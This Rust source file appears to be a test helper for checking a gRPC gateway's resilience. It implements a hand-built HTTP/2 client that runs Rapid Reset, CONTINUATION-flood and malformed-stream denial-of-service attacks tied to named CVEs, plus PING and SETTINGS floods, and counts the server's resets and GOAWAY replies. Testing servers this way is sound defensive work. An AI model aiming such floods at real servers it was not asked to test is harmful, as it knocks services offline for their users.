//! A hostile HTTP/2 client that writes its frames by hand.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncReadExt as _;
use tokio::io::AsyncWriteExt as _;
use tokio::io::BufReader;
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::sleep;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frames written at a time, and the pause before the next: about 60,000 a second. Faster, the
/// attacker on the same machine would take the CPU that its victims need, whatever the server does.
const BURST: u32 = 64;
const PAUSE: Duration = Duration::from_millis(1);

// Frame types and flags, RFC 9113 section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// The error code with which a server says that it had enough, RFC 9113 section 7.
pub const ENHANCE_YOUR_CALM: u32 = 11;

/// What the client does without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens streams and resets each at once (CVE-2023-44487).
    RapidReset,
    /// One header block that never ends (CVE-2024-27316).
    Continuation,
    /// Streams that the server has to reset (CVE-2025-8671).
    Malformed,
    /// Pings, each of which asks for an answer.
    Ping,
    /// Settings, each of which asks for an acknowledgement.
    Settings,
}

/// What came of an attack over one connection.
#[derive(Clone, Copy, Debug, Default)]
pub struct Outcome {
    /// Frames that the kernel took; the server need not have read them all.
    pub sent: u64,
    /// Streams that the server reset.
    pub resets: u64,
    /// The error code of the last GOAWAY, if one came.
    pub goaway: Option<u32>,
}

/// Attacks over one connection until the server closes it or so many frames are sent, and waits until
/// the server is done with it.
///
/// # Errors
/// Nobody listens there.
pub async fn run(address: SocketAddr, attack: Attack, max_frames: u64) -> std::io::Result<Outcome> {
    let socket = TcpStream::connect(address).await?;
    let (reader, mut writer) = socket.into_split();
    let mut outcome = Outcome::default();
    let reading = read(reader, &mut outcome.resets, &mut outcome.goaway);
    let writing = async {
        // A connection that the server has closed takes no more, which is one end of an attack.
        let _ = write(&mut writer, attack, max_frames, &mut outcome.sent).await;
        let _ = writer.shutdown().await;
    };
    // The other half fails when this one does, or a moment later.
    let _ = tokio::join!(reading, writing);
    Ok(outcome)
}

/// Counts what the server says, until it closes the connection.
async fn read(
    reader: OwnedReadHalf,
    resets: &mut u64,
    goaway: &mut Option<u32>,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(reader);
    let mut payload = Vec::new();
    loop {
        let length = reader.read_u32().await?;
        let kind = u8::try_from(length & 0xff).unwrap_or_default();
        let _flags = reader.read_u8().await?;
        let _stream = reader.read_u32().await?;
        payload.resize(usize::try_from(length >> 8).unwrap_or_default(), 0);
        reader.read_exact(&mut payload).await?;
        match kind {
            RST_STREAM => *resets += 1,
            GOAWAY => {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok());
                *goaway = code.map(u32::from_be_bytes);
            }
            _ => {}
        }
    }
}

async fn write(
    writer: &mut OwnedWriteHalf,
    attack: Attack,
    max_frames: u64,
    sent: &mut u64,
) -> std::io::Result<()> {
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    if attack == Attack::Continuation {
        frame(&mut bytes, HEADERS, 0, 1, &request(b"x-harmless"));
    }
    writer.write_all(&bytes).await?;
    let mut stream = 1;
    while *sent < max_frames {
        bytes.clear();
        for _ in 0..BURST {
            *sent += write_one(&mut bytes, attack, stream);
            stream += 2;
        }
        writer.write_all(&bytes).await?;
        sleep(PAUSE).await;
    }
    Ok(())
}

/// Writes one step of the attack; returns how many frames it has.
fn write_one(bytes: &mut Vec<u8>, attack: Attack, stream: u32) -> u64 {
    match attack {
        Attack::RapidReset => {
            frame(bytes, HEADERS, END_HEADERS, stream, &request(b"x-harmless"));
            frame(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            return 2;
        }
        Attack::Continuation => {
            let mut block = Vec::new();
            literal(&mut block, b"x-more", &[b'a'; 100]);
            frame(bytes, CONTINUATION, 0, 1, &block);
        }
        // Such a header makes a request malformed, RFC 9113 section 8.2.2.
        Attack::Malformed => {
            frame(bytes, HEADERS, END_HEADERS, stream, &request(b"connection"));
        }
        Attack::Ping => frame(bytes, PING, 0, 0, b"12345678"),
        Attack::Settings => frame(bytes, SETTINGS, 0, 0, &[]),
    }
    1
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    bytes.extend((length << 8 | u32::from(kind)).to_be_bytes());
    bytes.push(flags);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The header block of a call, with one header more.
fn request(name: &[u8]) -> Vec<u8> {
    // `:method POST` and `:scheme http` of the static table, RFC 7541 appendix A.
    let mut block = vec![0x83, 0x86];
    literal(
        &mut block,
        b":path",
        b"/bedrock.gateway.v1.InferenceService/Invoke",
    );
    literal(&mut block, b":authority", b"gateway");
    literal(&mut block, b"content-type", b"application/grpc");
    literal(&mut block, b"te", b"trailers");
    literal(&mut block, name, b"1");
    block
}

/// A header without indexing and without compression; both are shorter than 127 bytes.
fn literal(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0);
    for text in [name, value] {
        block.push(u8::try_from(text.len()).unwrap_or_default());
        block.extend(text);
    }
}
